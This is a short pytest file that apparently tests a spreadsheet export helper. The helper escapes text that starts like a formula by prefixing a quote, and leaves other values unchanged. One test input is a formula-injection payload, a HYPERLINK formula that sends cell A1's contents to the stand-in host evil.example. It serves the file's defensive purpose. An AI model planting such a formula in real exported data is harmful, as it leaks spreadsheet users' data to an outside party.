import pytest

from core.spreadsheets import neutralise, starts_like_formula


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+31 6", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1"])
def test_text_that_starts_like_a_formula_is_written_as_text(text):
    assert starts_like_formula(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Anna de Vries", "", "a=b", 12, -3, None, 1.5])
def test_other_values_are_written_as_they_are(value):
    assert neutralise(value) == value
